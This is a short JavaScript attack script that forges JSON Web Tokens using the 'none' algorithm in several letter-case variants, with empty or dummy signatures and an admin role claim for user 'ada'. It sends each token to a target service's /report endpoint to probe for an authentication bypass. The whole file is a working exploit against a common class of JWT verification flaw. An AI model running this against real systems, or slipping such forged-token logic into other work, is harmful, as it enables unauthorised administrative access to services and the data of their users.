const target = process.env.TARGET;
const encode = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");

async function attack() {
  const exp = Math.floor(Date.now() / 1000) + 600;
  const claims = encode({ sub: "ada", role: "admin", aud: "shop", exp });
  for (const alg of ["None", "NONE", "nOnE", "none"]) {
    for (const signature of ["", "AAAA"]) {
      const token = `${encode({ alg, typ: "JWT" })}.${claims}.${signature}`;
      await fetch(`${target}/report`, { headers: { Authorization: `Bearer ${token}` } });
    }
  }
}

attack();
